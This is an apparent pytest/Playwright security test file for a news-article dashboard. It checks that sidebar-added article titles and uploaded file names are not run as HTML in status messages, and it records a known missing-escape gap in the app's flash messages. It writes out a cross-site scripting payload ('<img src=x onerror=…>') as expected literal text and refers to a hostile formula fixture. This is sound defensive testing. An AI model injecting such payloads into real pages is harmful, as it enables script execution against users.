def added_from_sidebar(browser: Any, app_url: str) -> dict[str, Any]:
    """Paste an article with a hostile title, then upload a stored one under a hostile file name."""
    context = browser.new_context(viewport={"width": 1600, "height": 1100})
    page = context.new_page()
    watch = Watch()
    watch.attach(page)
    page.add_init_script(f"({MESSAGE_RECORDER_JS})()")
    body = (HOSTILE_DIR / "2022-09-11-hostile-formulas.md").read_bytes()
    try:
        page.goto(app_url, wait_until="domcontentloaded")
        sidebar = page.locator("[data-testid='stSidebar']")
        open_expander(page, sidebar, "Add articles")
        sidebar.get_by_label("Title").fill(ADDED_TITLE)
        sidebar.get_by_label("Text").fill(
            "“Kupiansk is calm tonight,” said Mayor Ihor Terekhov of Kharkiv on Monday, XSSMARK."
        )
        sidebar.get_by_role("button", name="Add article").click()
        page.wait_for_function(
            "() => window.__messages.some(m => m.text.includes('added'))", timeout=TIMEOUT_MS
        )
        open_expander(page, sidebar, "Add articles")
        sidebar.locator("input[type='file'][accept*='.md']").first.set_input_files(
            files=[{"name": UPLOAD_NAME, "mimeType": "text/markdown", "buffer": body}]
        )
        add_files = sidebar.locator(".st-key-add-files button").first
        for _ in range(TIMEOUT_MS // 250):  # reruns while the file uploads may fold the expander again
            open_expander(page, sidebar, "Add articles")
            if add_files.is_visible() and add_files.is_enabled():
                break
            page.wait_for_timeout(250)
        add_files.click()
        page.wait_for_function(
            "() => window.__messages.some(m => m.text.includes('already in the store'))", timeout=TIMEOUT_MS
        )
        page.wait_for_timeout(500)
        try:
            assert_clean(page, watch)
            problem = ""
        except AssertionError as exc:
            problem = str(exc)
        return {"messages": page.evaluate("() => window.__messages"), "problem": problem}
    finally:
        context.close()


def test_dashboard_added_article_messages_run_nothing(added_from_sidebar: dict[str, Any]) -> None:
    assert added_from_sidebar["problem"] == ""
    messages = added_from_sidebar["messages"]
    assert messages
    assert [m for m in messages if {"IMG", "SVG", "SCRIPT"} & set(m["markup"])] == []
    assert any("<img src=x onerror=window.__pwned=41>" in m["text"] for m in messages), messages


def test_dashboard_added_article_messages_show_as_text(added_from_sidebar: dict[str, Any]) -> None:
    messages = added_from_sidebar["messages"]
    shown = squash("\n".join(m["text"] for m in messages))
    expected = [f"Article added: {ADDED_TITLE}", f"{UPLOAD_NAME}: already in the store"]
    known_markdown_gap(
        [e for e in expected if squash(e) not in shown],
        [m["markup"] for m in messages],
        "geo/app/forms.py: flash('success', f'Article {result}: {article.title…}') and the upload flashes "
        "f'{name}: …', the progress text with the title and flash('warning', warning) need md_escape(…)",
    )
